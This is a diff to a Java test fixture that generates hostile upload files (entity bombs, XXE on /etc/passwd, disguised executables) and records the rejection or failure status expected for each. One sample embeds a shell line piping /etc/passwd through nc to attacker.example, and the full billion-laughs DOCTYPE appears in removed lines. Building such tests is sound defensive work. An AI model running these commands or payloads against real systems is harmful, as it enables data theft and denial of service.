@@ -73,10 +73,16 @@ final class HostileFileSet {
         cases.add(new Case("empty zip", "void-" + id + ".zip", emptyZip("void-" + id), new Refused(NOT_ALLOWED)));
         cases.add(new Case("DOCX decompression bomb", "inflate-" + id + ".docx", basic.docxBomb("inflate-" + id, 200),
                 new Accepted("FAILED", "ARCHIVE_BOMB")));
-        cases.add(new Case("DOCX with an XML entity bomb", "laughs-" + id + ".docx", docx("laughs-" + id, BILLION_LAUGHS_DOCTYPE,
-                "&lol9;"), new Accepted("FAILED", null)));
+        // XML bombs inside office documents: the Word parser reads no DOCTYPE at all (nothing to keep); the
+        // OpenDocument parser stops at its limit and the text before it is kept, recorded as truncated.
+        cases.add(new Case("DOCX with an XML entity bomb", "laughs-" + id + ".docx", basic.docx("laughs-" + id + ".bin", id,
+                HostileFiles.BILLION_LAUGHS_DOCTYPE, HostileFiles.BILLION_LAUGHS_BODY), new Accepted("FAILED", "CORRUPT")));
+        cases.add(new Case("ODT with an XML entity bomb", "laughs-" + id + ".odt", basic.odt("laughs-odt-" + id + ".bin", id,
+                HostileFiles.BILLION_LAUGHS_DOCTYPE, HostileFiles.BILLION_LAUGHS_BODY), new Accepted("EXTRACTED", "TEXT_TRUNCATED")));
+        cases.add(new Case("ODT with a quadratic entity blow-up", "quadratic-" + id + ".odt", basic.odt("quadratic-" + id + ".bin", id,
+                HostileFiles.QUADRATIC_DOCTYPE, HostileFiles.QUADRATIC_BODY), new Accepted("EXTRACTED", "TEXT_TRUNCATED")));
         // Disguised executables
-        cases.add(new Case("ELF executable named .pdf", "elf-" + id + ".pdf", elf("elf-" + id), new Refused(MISMATCH)));
+        cases.add(new Case("ELF executable named .pdf", "elf-" + id + ".pdf", basic.elf("elf-" + id + ".bin", id), new Refused(MISMATCH)));
         cases.add(new Case("PE executable named .docx", "pe-" + id + ".docx", pe("pe-" + id), new Refused(MISMATCH)));
         cases.add(new Case("shell script named .pdf", "script-" + id + ".pdf", bytes("script-" + id,
                 ("#!/bin/sh\ncat /etc/passwd | nc attacker.example 4444\n# " + id + "\n").getBytes(StandardCharsets.US_ASCII)),
@@ -89,8 +95,8 @@ final class HostileFileSet {
         cases.add(new Case("PDF with a ZIP appended", "pdfzip-" + id + ".pdf", pdfWithZip("pdfzip-" + id),
                 new Accepted("EXTRACTED", null)));
         // XXE
-        cases.add(new Case("DOCX with XXE on /etc/passwd", "xxe-" + id + ".docx", docx("xxe-" + id, XXE_DOCTYPE, "&xxe;"),
-                new Accepted("FAILED", null)));
+        cases.add(new Case("DOCX with XXE on /etc/passwd", "xxe-" + id + ".docx", basic.docx("xxe-" + id + ".bin", id,
+                XXE_DOCTYPE, "&xxe;"), new Accepted("FAILED", "CORRUPT")));
         cases.add(new Case("XHTML with XXE on /etc/passwd", "xxe-" + id + ".xhtml", bytes("xxe-" + id + "-x",
                 ("<?xml version=\"1.0\"?>" + XXE_DOCTYPE.replace("ROOT", "html") + "<html xmlns=\"http://www.w3.org/1999/xhtml\">"
                         + "<head><title>XXE " + id + "</title></head><body><p>before &xxe; after</p></body></html>")
@@ -131,19 +137,7 @@ final class HostileFileSet {
         return cases;
     }
 
-    // An entity bomb: 10^9 "lol" if expanded, a few hundred bytes on disk.
-    private static final String BILLION_LAUGHS_DOCTYPE = "<!DOCTYPE ROOT [<!ENTITY lol \"lol\">"
-            + "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
-            + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
-            + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
-            + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
-            + "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
-            + "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
-            + "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
-            + "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
-            + "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>";
-
-    private static final String XXE_DOCTYPE = "<!DOCTYPE ROOT [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
+    private static final String XXE_DOCTYPE = HostileFiles.XXE_DOCTYPE;
 
     private Path bytes(String stem, byte[] content) throws IOException {
         Path file = dir.resolve(stem + ".bin");
@@ -189,36 +183,6 @@ final class HostileFileSet {
             zip.setComment(id);
         }
         return file;
-    }
-
-    /** A minimal Word document whose body is {@code body}, after {@code doctype} in document.xml. */
-    private Path docx(String stem, String doctype, String body) throws IOException {
-        Path file = dir.resolve(stem + ".bin");
-        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
-            entry(zip, "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
-                    + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
-                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
-                    + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
-                    + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
-                    + "</Types>");
-            entry(zip, "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
-                    + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-                    + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
-                    + "</Relationships>");
-            entry(zip, "word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype.replace("ROOT", "w:document")
-                    + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
-                    + "<w:p><w:r><w:t>Case " + id + " " + body + "</w:t></w:r></w:p></w:body></w:document>");
-        }
-        return file;
-    }
-
-    /** The start of an ELF binary (x86-64 header), then padding. */
-    private Path elf(String stem) throws IOException {
-        ByteArrayOutputStream out = new ByteArrayOutputStream();
-        out.write(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0, 1, 0, 0, 0});
-        out.write(new byte[4096]);
-        out.write(id.getBytes(StandardCharsets.US_ASCII));
-        return bytes(stem, out.toByteArray());
     }
 
     /** A DOS/PE header: "MZ", the PE offset at 0x3C, then "PE\0\0". */
